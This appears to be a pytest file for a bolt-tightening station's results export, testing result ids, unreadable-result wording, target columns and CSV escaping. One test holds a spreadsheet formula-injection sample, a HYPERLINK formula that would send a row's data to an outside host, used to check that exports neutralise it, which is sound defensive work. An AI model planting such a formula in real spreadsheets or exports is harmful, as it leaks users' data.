"""A vehicle's export (``Results.export``): each row of a record carries its key outside the
station, ``db_id:seq``, OPC UA's ResultId and the line's (db_id, seq): an MES integrator
joining an export to the results it got over OPC UA had no key (the VIN, bolt and controller
id are not unique: a controller replaced numbers its tightenings again)."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from db.kinds import message_words, unreadable_note
from stationd.web.results import Results, _unreadable_comment, rundowns_csv
from tests.web.scenario import VIN, results_db


def test_every_row_of_a_record_carries_the_id_the_line_and_opc_ua_give_it(
        tmp_path: Path) -> None:
    repo = results_db(tmp_path)              # three rundowns: B1 OK, B2 NOK then OK
    try:
        old = repo.ledger.db_id()
        # a backup put back: the records from here on go under a new id, those before keep
        # theirs (the forwarder renews it; the line and OPC UA key them so)
        new = repo.ledger.renew_db_id(repo.ledger.last_seq() + 1).db_id
        repo.others.record_unreadable(mid=61, revision=7, raw="00230061007 garbled", error="short",
                                      vin=VIN, bolt="B3", controller_vin=None, tightening_id=7,
                                      pset=1, result_at=None)
        repo.others.record_unattributed(vin=VIN, controller_vin=None, tightening_id=8, pset=1,
                                        ok=True, torque_nm=50.0, angle_deg=30.0, result_at=None,
                                        result_type=1, reason="outside a tool enable")
        repo.ledger.record_command(at=datetime.now(UTC), user="sue", source="cli",
                                   kind="release", vin=VIN, bolt="B3", comment="checked")
        repo.ledger.record_command(at=datetime.now(UTC), user="sue", source="cli",
                                   kind="skip", vin=VIN, bolt="B4", comment="no thread")
        feed = {(e["kind"], e["record"]["id"]): e["seq"] for e in repo.ledger.since(0)}
        series = repo.ledger.series()
        rows = Results(repo).export(VIN)
        keyed = [r for r in rows if r["result_id"] is not None]
        assert sorted(r["status"] for r in keyed) == sorted(
            ["ok", "nok", "ok", "unreadable", "unattributed", "released", "skipped"])
        # each the feed's own record, under the id of its series
        assert sorted(r["result_id"] for r in keyed) == sorted(
            f"{series.id_of(seq)}:{seq}" for seq in feed.values())
        rundowns = [r["result_id"] for r in rows if r["status"] in ("ok", "nok")]
        assert all(i.startswith(f"{old}:") for i in rundowns)
        later = [r["result_id"] for r in keyed if r["status"] not in ("ok", "nok")]
        assert all(i.startswith(f"{new}:") for i in later)
        # a skipped bolt's row is its skip's; a bolt's row without a record has none
        assert all(r["result_id"] is None for r in rows if r["status"] == "pending")
        assert [r["bolt"] for r in rows if r["status"] == "pending"] == ["B3"]
        assert ",controller_at,result_id," in rundowns_csv(rows).splitlines()[0]
    finally:
        repo.close()


def test_a_register_driven_result_that_does_not_read_is_said_as_its_registers():
    """Stored as unreadable, a register-driven controller's result is named as what it came
    as, its result registers (it has no MID or revision: 0), not "MID 0000 revision 0", in
    the results export's comment and a held bolt's note without an id."""
    assert message_words(0, 0) == "result registers" and unreadable_note(None, 0, 0) == \
        "result registers"
    assert message_words(61, 7) == "MID 0061 revision 7"
    assert _unreadable_comment({"mid": 0, "revision": 0, "error": "result status: x"}) == \
        "result registers: result status: x"


def test_a_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text():
    """An operator allowed a skip typed ``=HYPERLINK(...)`` as its comment: the screens'
    CSV carried it as a formula that a spreadsheet runs (sending the row on a click)."""
    import csv
    import io

    from stationd.web.results import CSV_FIELDS

    row: dict[str, object] = {k: None for k in CSV_FIELDS}
    row.update(vin=VIN, bolt="B1", images=[], comment='=HYPERLINK("http://x/?"&A2,"go")',
               angle_deg=-3.5, operator="@olga")
    out = list(csv.DictReader(io.StringIO(rundowns_csv([row]))))
    assert out[0]["comment"] == '\'=HYPERLINK("http://x/?"&A2,"go")'
    assert out[0]["operator"] == "'@olga"
    assert out[0]["angle_deg"] == "-3.5" and out[0]["vin"] == VIN     # numbers as they are


def test_every_tightening_row_carries_the_targets_sent_with_its_limits(tmp_path: Path) -> None:
    """A quality trial: the line had each rundown's targets, the station's own export only
    the limits."""
    repo = results_db(tmp_path)
    try:
        rows = [r for r in Results(repo).export(VIN) if r.get("rundown") == "tightening"]
        assert rows
        for r in rows:
            assert r["torque_min_nm"] < r["torque_target_nm"] < r["torque_max_nm"], r
            assert r["angle_min_deg"] < r["angle_target_deg"] < r["angle_max_deg"], r
        import csv
        import io
        head = next(csv.reader(io.StringIO(rundowns_csv(rows))))
        assert {"torque_target_nm", "angle_target_deg"} <= set(head)
    finally:
        repo.close()
